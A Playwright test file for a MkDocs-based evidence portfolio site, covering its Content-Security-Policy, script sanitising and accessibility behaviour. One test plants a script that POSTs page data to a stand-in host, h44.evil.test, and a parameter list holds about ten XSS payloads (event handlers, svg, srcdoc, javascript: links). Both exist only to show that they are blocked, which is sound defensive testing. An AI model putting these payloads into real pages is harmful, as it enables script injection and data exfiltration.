        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n"
    )
    site_script = {"evidence/js/site.js": script, "mkdocs.yml": MKDOCS_YML + "extra_javascript: [js/site.js]\n"}
    with _served_internal_item(tmp_path, "scripted", "Text.\n", site_script) as (server, site):  # the widest build
        elsewhere: list[tuple[str, str]] = []  # each request to another host, and why it failed
        page.on("requestfinished", lambda request: elsewhere.append((request.url, "finished")))
        page.on("requestfailed", lambda request: elsewhere.append((request.url, request.failure or "")))
        page.add_init_script(
            "window.refused = []; document.addEventListener('securitypolicyviolation', "
            "event => window.refused.push(event.blockedURI))"
        )
        page.goto(server.url + "partnerships/scripted/")
        page.wait_for_load_state("networkidle")
        assert sorted(page.evaluate("window.refused")) == [
            "https://h44.evil.test/collect",
            "https://h44.evil.test/pixel.gif",
        ]
        others = [(url, why) for url, why in elsewhere if not url.startswith(server.url)]
        assert all("csp" in why.lower() for _, why in others), others
        not_found = (site / "404.html").read_text(encoding="utf-8")  # the site's 404 page carries it too
        assert not_found.count('<meta http-equiv="Content-Security-Policy"') == 1


SCRIPTS_IN_A_PAGE = (
    '<script>window.ran = "script"</script>',
    '<SCRIPT type="Module">window.ran = "module"</SCRIPT>',
    '<script>window.ran = "spaced end"</script x>',
    '<img src="missing.png" alt="a" OnError="window.ran = \'handler\'">',
    '<svg><script>window.ran = "svg"</script></svg>',
    "<svg onload=\"window.ran = 'svg handler'\"></svg>",
    "<iframe srcdoc=\"&lt;script&gt;parent.ran = 'srcdoc'&lt;/script&gt;\"></iframe>",
    '<<script>window.ran = "joined"</script>script>window.ran = "joined"</script>',
    "<details open ontoggle=\"window.ran = 'toggle'\"><summary>s</summary></details>",
    '<a href="javascript:void(window.ran = \'link\')" id="go">go</a>',
)


@pytest.mark.parametrize("html", SCRIPTS_IN_A_PAGE)
def test_a_pages_own_script_runs_in_no_browser(page: Any, html: str) -> None:
    """What the seal leaves of a page's own script, however it is written (the check names each, page-script; the
    seal makes inert whatever a page's HTML still holds): opened in Chromium, no script of it runs, and a link that
    would run one, clicked, runs none. The same HTML unsealed runs (the test tests something)."""
    from evidence_portfolio.site.seal import SiteMap, seal

    def ran(shown: str) -> object:
        html = f"<!doctype html><html><body>{shown}</body></html>"
        page.route("http://portfolio.test/a/", lambda route: route.fulfill(content_type="text/html", body=html))
        page.goto("http://portfolio.test/a/")
        page.wait_for_timeout(100)
        if page.locator("a#go").count():
            page.locator("a#go").click()
            page.wait_for_timeout(
                200
            )  # (a javascript: link runs after the click: read at once, on a busy machine it had not)
        found = page.evaluate("window.ran")
        page.unroute("http://portfolio.test/a/")
        return found

    assert ran(html) is not None
    assert ran(seal(html, "a/", SiteMap(frozenset({"index.html"}))).html) is None


@contextlib.contextmanager
def _served_internal_item(
    tmp_path: Path, name: str, body: str, files: dict[str, str] | None = None
) -> Iterator[tuple[Server, Path]]:
    """The widest (internal) build of a project holding one internal item with `body` (and `files`), served; and its
    site."""
    project = Project(tmp_path / "project")
    project.write("framework.yml", FRAMEWORK)
    project.write("mkdocs.yml", MKDOCS_YML)
    for path, text in (files or {}).items():
        project.write(path, text)
    front_matter = (
        f"title: {name.title()}\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal"
    )
    project.item(f"partnerships/{name}.md", front_matter, body)
    built = project.build(audience="internal")
    assert not built.failed, built.error
    server = Server(built.site)
    try:
        yield server, built.site
    finally:
        server.close()


def test_what_takes_the_focus_is_never_hidden(page: Any, sample: Server) -> None:
    """Going back through a page with Shift+Tab scrolled each link to the top, under Material's header, and each
    heatmap cell under the heatmap's first column, which stays put as it scrolls (an accessibility review, WCAG
    2.4.11). A link of the page's text stays below the header; a cell of the heatmap right of its first column."""
    settled = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
    page.set_viewport_size({"width": 1280, "height": 900})
    page.goto(sample.url + "challenges/partnerships/")
    page.add_style_tag(content="html { scroll-behavior: auto !important; }")  # where it is, not on its way there
    page.keyboard.press("End")
    header = page.evaluate("document.querySelector('.md-header').getBoundingClientRect().bottom")
    hidden, focused = [], 0
    for _ in range(60):
        page.keyboard.press("Shift+Tab")
        page.evaluate(settled)
        where = page.evaluate(
            "(() => { const e = document.activeElement; if (!e.closest('.md-content') || e.matches('.headerlink'))"
            " return null; const box = e.getBoundingClientRect(); return [box.bottom, e.textContent.trim()]; })()"
        )
        if where:
            focused += 1
            if where[0] <= header:
                hidden.append(where[1])
    assert focused > 20 and not hidden, hidden
    page.set_viewport_size({"width": 320, "height": 700})
    page.goto(sample.url)
    cells = page.query_selector_all(".portfolio-matrix td a")
    assert len(cells) > 5
    for cell in reversed(cells):
        cell.focus()
        page.evaluate(settled)
        first = page.query_selector(".portfolio-matrix tbody th").bounding_box()
        box = cell.bounding_box()
        assert box["x"] + box["width"] > first["x"] + first["width"] + 10, cell.text_content()


def test_the_library_says_its_count_again_only_when_it_changes(page: Any, site: Server) -> None:
    """Its count is a live region, which a screen reader reads out each time it is written: rewritten on every key,
    the same count was read out at every letter typed (an accessibility review)."""
    open_library(page, site)
    page.evaluate(
        "window.said = []; new MutationObserver(() => window.said.push(document.querySelector('[data-count]')"
        ".textContent)).observe(document.querySelector('[data-count]'), {childList: true, characterData: true,"
        " subtree: true})"
    )
    page.type("#filter-q", "walking", delay=30)
    page.wait_for_timeout(300)
    said = page.evaluate("window.said")
    assert said and len(said) == len(set(said)) < len("walking"), said


def test_the_library_says_a_new_order_and_an_address_it_could_not_read(page: Any, site: Server) -> None:
    """The count is said when it changes: another order of the same items, or a filter that left as many, changed
    the list without a word to a screen reader, and the note of filters in the address it could not read was put
    outside any live region (an accessibility review). Both are said in a live region that shows nothing."""
    open_library(page, site)
    said = page.locator("[data-said]")
    assert said.get_attribute("aria-live") == "polite" and said.inner_text() == ""
    page.select_option("#filter-sort", "title")
    assert said.text_content() == f"Title (A to Z): {len(ALL)} items"
    page.select_option("#filter-sort", "date-desc")
    assert said.text_content() == f"Newest first: {len(ALL)} items"
    open_library(page, site, "tags=x")
    page.wait_for_timeout(700)
    note = page.locator("[data-unread]").text_content()
    assert note.startswith("Not read from the address: tags") and said.text_content() == note


def test_a_large_library_is_one_list_to_a_screen_reader(page: Any, many: Server) -> None:
    """Past 200 items the list is drawn in lists of 100 (each laid out only near the screen): a screen reader said
    "list, 100 items" for each, where the count said 402 (an accessibility review). The lists are one, the items of
    each its items, in the page's structure and in the accessibility tree Chromium builds (where a list not laid
    out yet was an empty list of its own)."""
    open_library(page, many)
    roles = page.eval_on_selector(
        ".portfolio-library__lists",
        """lists => [lists.getAttribute("role"), [...lists.children].map(list => list.getAttribute("role")),
        [...lists.querySelectorAll("li[data-item]")].map(item => item.getAttribute("role"))]""",
    )
    assert roles[0] == "list" and set(roles[1]) == {"none"} and len(roles[1]) > 1, roles[:2]
    assert set(roles[2]) == {"listitem"} and len(roles[2]) == len(many.portfolio["items"])
    nodes = page.context.new_cdp_session(page).send("Accessibility.getFullAXTree")["nodes"]
    by_id = {node["nodeId"]: node for node in nodes}
    sizes = [
        sum(
            by_id[child].get("role", {}).get("value") == "listitem"
            for child in node.get("childIds", [])
            if child in by_id
        )
        for node in nodes
        if node.get("role", {}).get("value") == "list" and not node.get("ignored")
    ]
    assert 0 not in sizes and sum(size >= 100 for size in sizes) == 1, sizes


def test_the_first_click_on_a_result_after_typing_words_opens_it(page: Any, site: Server) -> None:
    """The words box says it changed when it loses the focus, which the click on a result takes; the list was drawn
    again under the pointer and the click was lost: the first click on a result after typing did nothing (an
    outside review)."""
    open_library(page, site)
    page.click("#filter-q")
    page.keyboard.type("joint")
    page.wait_for_timeout(100)
    assert shown(page) == ["partnerships/joint-bid"]
    with page.expect_navigation():
        page.click("li[data-item='partnerships/joint-bid'] a.portfolio-library__title")
    assert urlsplit(page.url).path.endswith("/partnerships/joint-bid/")


def test_names_numbered_of_their_own_are_not_numbered_again_in_the_packs_contents(
    browser: Any, project: Project
) -> None:
    """Sections labelled "1. Plan" were listed "1. 1. Plan" in the contents of the pack and the PDF (a review of
    valid portfolios); the sections of a framework whose labels bear no numbers are numbered as before."""
    framework = (project.root / "framework.yml").read_text()
    numbered = framework
    for n, name in enumerate(("Plan", "Do", "Review"), start=1):
        numbered = numbered.replace(f"label: {name}}}", f"label: '{n}. {name} stage'}}")
    assert numbered.count(". Do stage") == 1, "the test tests something"
    for text, kept in ((numbered, False), (framework, True)):
        project.write("framework.yml", text)
        built = project.build(audience="accreditor")
        page = browser.new_page(viewport=VIEWPORT)
        try:
            page.goto((built.site / "accreditation-pack/index.html").as_uri())
            styles = page.eval_on_selector_all(
                ".portfolio-pack-toc ol", "lists => lists.map(list => getComputedStyle(list).listStyleType)"
            )
        finally:
            page.close()
        assert styles and all((style != "none") is kept for style in styles), (kept, styles)
